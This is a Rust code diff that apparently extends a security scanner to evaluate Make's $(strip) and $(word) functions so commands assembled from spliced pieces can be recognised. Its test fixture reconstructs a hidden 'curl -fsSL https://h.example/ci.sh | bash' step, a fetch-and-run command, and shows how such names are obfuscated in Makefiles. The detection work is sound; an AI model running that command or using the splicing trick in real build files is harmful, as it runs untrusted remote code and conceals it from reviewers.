@@ -359,7 +359,7 @@ fn variables(text: &str) -> HashMap<String, String> {
             r"(?m)^([A-Za-z_][A-Za-z0-9_]{0,40})[ \t]*(?:::?=|\?=|\+=|!=|=)[ \t]*([^\n#]{1,200})$",
         );
         for c in assignment.captures_iter(text).take(256) {
-            let value = substitute(c[2].trim_end(), &vars);
+            let value = make_functions(&substitute(c[2].trim_end(), &vars));
             vars.insert(c[1].to_string(), value);
         }
     }
@@ -446,6 +446,27 @@ fn variables(text: &str) -> HashMap<String, String> {
     vars
 }
 
+/// Make's functions that only pick or splice words, evaluated: `$(strip )` (nothing,
+/// between two letters a splice: `cu$(strip )rl`) and `$(word N,a b c)` (the Nth word),
+/// so a command assembled from them reads as what Make runs.
+fn make_functions(s: &str) -> String {
+    if !s.contains("$(") {
+        return s.to_string();
+    }
+    static STRIP: OnceLock<Regex> = OnceLock::new();
+    static WORD: OnceLock<Regex> = OnceLock::new();
+    let s = re(&STRIP, r"\$\(strip\s*\)").replace_all(s, "");
+    re(&WORD, r"\$\(word\s+([0-9]{1,2})\s*,\s*([^()$]{0,200})\)")
+        .replace_all(&s, |c: &regex::Captures<'_>| {
+            let n: usize = c[1].parse().unwrap_or(0);
+            n.checked_sub(1)
+                .and_then(|i| c[2].split_whitespace().nth(i))
+                .unwrap_or("")
+                .to_string()
+        })
+        .into_owned()
+}
+
 /// The text of adjacent quoted pieces (`"cu""rl"`, `'a'"b"`), quotes removed.
 fn unquote_pieces(s: &str) -> String {
     let mut out = String::new();
@@ -502,9 +523,9 @@ fn assemble(line: &str, vars: &HashMap<String, String>) -> Option<String> {
     static ESC: OnceLock<Regex> = OnceLock::new();
     static IDENT_PLUS: OnceLock<Regex> = OnceLock::new();
     static PLUS_IDENT: OnceLock<Regex> = OnceLock::new();
-    let mut s = line.to_string();
+    let mut s = make_functions(line);
     if !vars.is_empty() && (s.contains('$') || s.contains('+')) {
-        s = substitute(&s, vars);
+        s = make_functions(&substitute(&s, vars));
         let ident = re(&IDENT_PLUS, r"\b([A-Za-z_][A-Za-z0-9_]*)\b(\s*\+\s*)");
         if s.contains('+') {
             let replaced = ident.replace_all(&s, |c: &regex::Captures<'_>| match vars.get(&c[1]) {
@@ -1092,6 +1113,23 @@ mod tests {
         assert_eq!(
             assemble("c\\u\\r\\l x", &HashMap::new()).as_deref(),
             Some("curl x")
+        );
+    }
+
+    #[test]
+    fn makes_word_picking_functions_are_evaluated() {
+        assert_eq!(
+            make_functions("$(word 1,cu wg)$(word 1,rl et) -fsSL"),
+            "curl -fsSL"
+        );
+        assert_eq!(make_functions("a$(word 9,x y)b"), "ab");
+        let mk = ".PHONY: deps\nP := ht\nP := $(P)tps\nT := $(word 1,cu wg)$(word 1,rl et)\n";
+        let vars = variables(mk);
+        assert_eq!(vars["T"], "curl");
+        assert_eq!(vars["P"], "https");
+        assert_eq!(
+            assemble("\t@$(T) -fsSL $(P)://h.example/ci.sh | bash", &vars).as_deref(),
+            Some("\t@curl -fsSL https://h.example/ci.sh | bash")
         );
     }
 
